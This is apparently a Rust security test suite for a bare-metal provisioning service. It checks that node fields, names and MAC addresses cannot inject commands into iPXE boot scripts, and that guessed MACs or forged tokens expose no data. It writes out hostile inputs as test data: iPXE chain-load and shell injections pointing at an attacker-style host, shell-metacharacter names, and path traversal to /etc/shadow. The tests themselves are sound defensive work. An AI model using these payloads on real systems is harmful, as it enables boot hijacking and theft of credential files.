//! What a machine is told at its boot, and what is told to whoever says that he is one.

use super::*;
use leasehold_domain::boot::{AgentSource, BootScript, UnknownMachines, boot_script};
use leasehold_domain::mac::Mac;
use std::sync::Arc;

fn source() -> AgentSource {
    AgentSource {
        kernel_url: "http://10.0.0.1/boot/k".into(),
        initrds: Vec::new(),
        rescue: None,
        api_url: "https://10.0.0.1:8444".into(),
        inspection_url: "https://10.0.0.1:8444/v1/continue_inspection".into(),
        pin: None,
        consoles: Vec::new(),
        extra: Vec::new(),
    }
}

#[tokio::test]
async fn boot_script_injection_by_kernel_parameters() {
    let rig = super::super::Rig::new().await;
    let (id, _) = rig.inspected_node("n1", "52:54:00:00:00:01").await;
    let mac: Mac = "52:54:00:00:00:01".parse().expect("a MAC");
    let script =
        || boot_script(&rig.api.engine.view(), mac, UnknownMachines::NoBoot, &source(), |_, _| Some("t".into()));
    let BootScript::Agent { arguments: before, kernel, initrds, .. } = script() else { panic!("it boots its agent") };
    let evil = "x\nchain http://10.0.0.66/evil\nshell ipa-api-url=https://10.0.0.66";
    let mut node = (**rig.api.engine.view().node(id).expect("there")).clone();
    let info = json!({
        "kernel_append_params": evil, "pxe_append_params": evil, "deploy_kernel": "http://10.0.0.66/k",
        "deploy_ramdisk": "http://10.0.0.66/r", "pxe_template": "/etc/shadow", "kernel": "http://10.0.0.66/k",
        "boot_iso": "file:///etc/shadow", "ramdisk": "../../../etc/shadow", "capabilities": {"boot_option": evil},
    });
    let info = info.as_object().expect("an object").clone();
    node.settings.instance_info = info.clone();
    node.settings.driver_info.extend(info.clone());
    node.settings.extra = info.clone();
    node.settings.properties = info;
    let mut view = (*rig.api.engine.view()).clone();
    view.apply(&leasehold_domain::Change::PutNode(Arc::new(node)));
    let after = boot_script(&view, mac, UnknownMachines::NoBoot, &source(), |_, _| Some("t".into()));
    let BootScript::Agent { arguments, kernel: now, initrds: ram, title } = after else { panic!("it boots its agent") };
    assert_eq!((arguments, now, ram), (before, kernel, initrds), "nothing of a node's own is in its boot");
    assert!(!title.contains('\n') && !title.contains("chain"), "{title}");
}

#[tokio::test]
async fn boot_script_injection_by_names() {
    let scene = Scene::new("admin", "admin").await;
    for name in [
        "n\nchain http://10.0.0.66/x",
        "n;shell",
        "${net0/mac}",
        "n && shell",
        "n`id`",
        "n|x",
        "#!ipxe",
        "n\"",
        "n'x",
        "n\\x",
    ] {
        let node = json!({"driver": "fake-hardware", "name": name});
        let (status, answer) = scene.ask(&scene.stranger, "POST", "/nodes", node).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{name:?}: {answer}");
        let patch = json!([{"op": "replace", "path": "/name", "value": name}]);
        let (status, answer) = scene.ask(&scene.owner, "PATCH", &format!("/nodes/{}", scene.node), patch).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{name:?}: {answer}");
    }
    for address in ["52:54:00:00:00:01\nx", "52:54:00:00:00:0${x}", "../../../etc/shadow", "52:54:00:00:00:01 shell"] {
        let port = json!({"node_uuid": scene.node, "address": address});
        assert_eq!(scene.ask(&scene.owner, "POST", "/ports", port).await.0, StatusCode::BAD_REQUEST, "{address:?}");
    }
}

#[tokio::test]
async fn data_by_guessing_a_mac() {
    let rig = super::super::Rig::new().await;
    let (_, job) = rig.inspected_node("waiting", "52:54:00:00:00:01").await;
    let idle = rig.node("idle").await;
    assert_eq!(rig.port(&idle, "52:54:00:00:00:02").await.0, StatusCode::CREATED);
    let lookup = async |query: &str| rig.agent("GET", &format!("/v1/lookup?{query}"), Value::Null, "10.0.0.7").await;
    let nothing = lookup("addresses=52:54:00:00:00:99").await;
    assert_eq!(nothing.0, StatusCode::NOT_FOUND);
    let id = idle["uuid"].as_str().expect("a UUID");
    for query in [
        "addresses=52:54:00:00:00:02".to_owned(),
        format!("node_uuid={id}"),
        format!("addresses=52:54:00:00:00:02&node_uuid={id}"),
        format!("addresses=52:54:00:00:00:01&node_uuid={id}"),
        "addresses=".to_owned(),
        "addresses=*".to_owned(),
        "addresses=52:54:00:00:00".to_owned(),
        String::new(),
    ] {
        assert_eq!(lookup(&query).await, nothing, "{query}: a node that waits for nothing is not there");
    }
    let (status, found) = lookup("addresses=52:54:00:00:00:01").await;
    assert_eq!(status, StatusCode::OK, "the machine that is expected");
    let text = found.to_string();
    let token = rig.api.engine.tickets.boot_token(&job);
    for hidden in ["sesame", "ipmi", "10.0.0.9", token.as_str()] {
        assert!(!text.contains(hidden), "{hidden}: {text}");
    }
    // The MAC is no proof: neither a heartbeat nor an inventory nor an image is had for it.
    for guess in ["", "52:54:00:00:00:01", "******", &"0".repeat(64)] {
        let beat = json!({"callback_url": "https://10.0.0.7:9999", "agent_token": guess, "agent_version": "1"});
        let path = format!("/v1/heartbeat/{}", job.node);
        assert_eq!(rig.agent("POST", &path, beat, "10.0.0.7").await.0, StatusCode::UNAUTHORIZED, "{guess}");
        let report = json!({"inventory": {"interfaces": [{"mac_address": "52:54:00:00:00:01"}]}});
        let path = format!("/v1/continue_inspection?node_uuid={}&agent_token={guess}", job.node);
        assert_eq!(rig.agent("POST", &path, report, "10.0.0.7").await.0, StatusCode::UNAUTHORIZED, "{guess}");
    }
    let ticket = rig.api.engine.tickets.image_ticket(&job);
    for ticket in ["52:54:00:00:00:01", id, &ticket, &token, "..", "%2e%2e"] {
        for part in ["map", "data", "raw", "key"] {
            let path = format!("/images/{ticket}/{part}");
            let status = rig.agent("GET", &path, Value::Null, "10.0.0.7").await.0;
            assert_eq!(status, StatusCode::NOT_FOUND, "{path}: an inspection has no image");
        }
    }
}
